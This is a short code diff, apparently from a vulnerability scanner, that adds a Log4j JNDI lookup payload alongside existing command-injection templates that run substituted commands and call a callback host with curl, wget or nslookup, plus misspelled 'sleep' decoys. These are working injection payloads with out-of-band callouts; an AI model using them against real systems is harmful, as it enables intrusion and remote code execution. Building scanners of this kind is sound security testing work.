@@ -72,6 +72,9 @@ _FETCH = "(curl -sm5 {url}/$(({task}))||wget -qT5 -O- {url}/$(({task})){look_up}
 _LOOK_UP = "||nslookup $(({task})).{host}"
 _FETCH_WINDOWS = "for /f %i in ('set /a {task}') do curl -sm5 {url}/%i >nul"
 
+# What Log4j 2 looked up in any text that it was to log, before 2.15, and others after it.
+LOOK_UP_IN_LOGS = "${jndi:{url}}"
+
 # Look like the command that waits, and are none.
 LOOKALIKES = ("slepe", "sleap", "slleep")
 
